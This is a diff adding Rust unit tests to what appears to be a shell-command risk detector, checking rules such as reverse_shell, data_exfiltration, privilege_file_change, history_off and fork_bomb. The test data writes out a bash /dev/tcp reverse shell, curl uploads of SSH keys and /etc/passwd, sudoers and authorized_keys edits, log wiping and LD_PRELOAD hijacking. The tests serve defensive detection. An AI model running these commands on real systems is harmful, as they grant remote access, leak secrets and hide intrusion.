@@ -187,3 +187,137 @@ fn doubts_about_the_text_are_warnings_and_others_end_safe() {
     g.doubt(DoubtKind::UnknownOption, "--x");
     assert_eq!((g.ids().len(), g.judge().1.class), (0, Class::Unknown));
 }
+
+/// One effect on one path, by a command that stands there as `x X`.
+fn on_path(verb: Verb, target: &str) -> Vec<&'static str> {
+    let mut g = graphs::of("x X");
+    let p = g.run("x X");
+    g.does(p, verb, Object::Path(path(target, g.at("X"))), &[]);
+    g.ids()
+}
+
+#[test]
+fn writes_to_files_that_matter() {
+    for (verb, target, want) in [
+        (Verb::Write, "~/.bashrc", "dotfile_overwrite"),
+        (Verb::Delete, "/home/u/.profile", "dotfile_overwrite"),
+        (Verb::Append, "~/.ssh/authorized_keys", "ssh_access_change"),
+        (Verb::Append, "/etc/sudoers", "privilege_file_change"),
+        (Verb::Write, "/etc/sudoers.d/x", "privilege_file_change"),
+        (Verb::Append, "/etc/passwd", "account_file_change"),
+        (Verb::Write, "/etc/ld.so.preload", "loader_file_change"),
+        (Verb::Write, "/etc/cron.d/x", "scheduled_job"),
+        (Verb::Write, "/etc/systemd/system/x.service", "service_file_change"),
+        (Verb::Write, ".git/hooks/pre-commit", "repository_hook_change"),
+        (Verb::Write, "~/.claude/settings.json", "agent_settings_change"),
+        (Verb::Write, "/var/log/auth.log", "log_clear"),
+        (Verb::Delete, "~/.bash_history", "history_clear"),
+        (Verb::Write, "/etc/fstab", "system_setup_change"),
+        (Verb::Read, "/etc/shadow", "credential_file_read"),
+        (Verb::Read, "/proc/1/environ", "proc_mem_access"),
+    ] {
+        assert_eq!(on_path(verb, target), [want], "{verb} {target}");
+    }
+    for (verb, target) in [
+        (Verb::Append, "~/.bashrc"),
+        (Verb::Read, "~/.bashrc"),
+        (Verb::Write, "notes.md"),
+        (Verb::Append, "/etc/hosts"),
+        (Verb::Read, "/etc/passwd"),
+        (Verb::Read, ".env"),
+        (Verb::Read, "~/.ssh/id_rsa.pub"),
+        (Verb::Write, "/dev/null"),
+        (Verb::Append, "/var/log/x.log"),
+        (Verb::Write, "~/.config/x/settings.toml"),
+    ] {
+        assert!(on_path(verb, target).is_empty(), "{verb} {target}: {:?}", on_path(verb, target));
+    }
+}
+
+#[test]
+fn a_shell_that_listens_to_a_connection() {
+    let mut g = graphs::of("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
+    let sh = g.run("bash -i");
+    let at = g.at("/dev/tcp/203.0.113.9/4444");
+    let (host, port) = (graphs::path("203.0.113.9", at), graphs::path("4444", at));
+    let connect = g.does(sh, Verb::Connect, Object::Socket(host, port), &[]);
+    let code = g.from(connect, Why::Network);
+    g.does(sh, Verb::Evaluate, Object::Code(Language::Bash, code), &[(connect, Channel::Socket)]);
+    let (findings, _) = g.judge();
+    assert_eq!((findings[0].rule_id, findings[0].severity), ("reverse_shell", Severity::Critical));
+    // The same connection without a shell behind it is no finding.
+    g.graph.effects.pop();
+    assert!(g.ids().is_empty(), "{:?}", g.ids());
+}
+
+#[test]
+fn secrets_that_leave() {
+    let send = |file: &str, url: &str| {
+        let mut g = graphs::of("curl -d @F U");
+        let p = g.run("curl -d @F U");
+        let read = g.does(p, Verb::Read, Object::Path(path(file, g.at("F"))), &[]);
+        g.with(read, Props::USED);
+        let to = path(url, g.at("U"));
+        g.does(p, Verb::Send, Object::Url(to), &[(read, Channel::File)]);
+        g.ids()
+    };
+    assert_eq!(send("~/.ssh/id_rsa", "https://e.example/"), ["data_exfiltration"]);
+    assert_eq!(send("/etc/passwd", "https://e.example/"), ["data_exfiltration"]);
+    assert!(send("body.json", "https://e.example/").is_empty());
+    assert!(send("~/.ssh/id_rsa.pub", "https://e.example/").is_empty());
+    assert_eq!(send("x.tgz", "https://transfer.sh/x"), ["data_to_drop"]);
+    assert!(send("~/.aws/credentials", "http://localhost/").is_empty());
+}
+
+#[test]
+fn signals_and_bombs() {
+    let kill = |pid: &str| {
+        let mut g = graphs::of("kill P");
+        let p = g.run("kill P");
+        g.does(p, Verb::Kill, Object::Named("process", path(pid, g.at("P"))), &[]);
+        g.ids()
+    };
+    assert_eq!(kill("-1"), ["kill_all"]);
+    assert!(kill("4242").is_empty());
+    let mut g = graphs::of("f");
+    let p = g.run("f");
+    g.does(p, Verb::Exhaust, Object::Named("process", g.word("f")), &[]);
+    let (findings, _) = g.judge();
+    assert!(findings[0].rule_id == "fork_bomb" && findings[0].floor);
+}
+
+#[test]
+fn variables_that_matter() {
+    let set = |name: &str, value: Option<&str>| {
+        let mut g = graphs::of("V");
+        let p = g.run("V");
+        let at = g.at("V");
+        let e = g.does(p, Verb::Environment, Object::Named("variable", path(name, at)), &[]);
+        g.graph.effects[e.0 as usize].other = value.map(|v| {
+            Box::new(Object::Named("value", crate::value::Value::computed(v.as_bytes(), at, Default::default())))
+        });
+        g.ids()
+    };
+    assert_eq!(set("LD_PRELOAD", Some("/tmp/x.so")), ["code_injection_env"]);
+    assert_eq!(set("BASH_ENV", Some("x")), ["shell_injection_env"]);
+    assert_eq!(set("HISTFILE", None), ["history_off"]);
+    assert_eq!(set("HISTSIZE", Some("0")), ["history_off"]);
+    assert_eq!(set("PATH", Some(".:/usr/bin")), ["path_hijack_env"]);
+    for (name, value) in [("LANG", "C"), ("PATH", "/opt/x/bin:/usr/bin"), ("LD_PRELOAD", ""), ("HISTSIZE", "1000")] {
+        assert!(set(name, Some(value)).is_empty(), "{name}={value}");
+    }
+}
+
+#[test]
+fn secrets_in_words_and_in_output() {
+    let key = format!("AKIA{}", "IOSFODNN7EXAMPL0");
+    let g = {
+        let text = format!("aws set {key}");
+        let mut g = graphs::of(&text);
+        g.run(&text);
+        g
+    };
+    let (findings, _) = g.judge();
+    assert_eq!(findings[0].rule_id, "credential_in_text");
+    assert!(!serde_json::to_string(&findings).unwrap().contains(&key));
+}
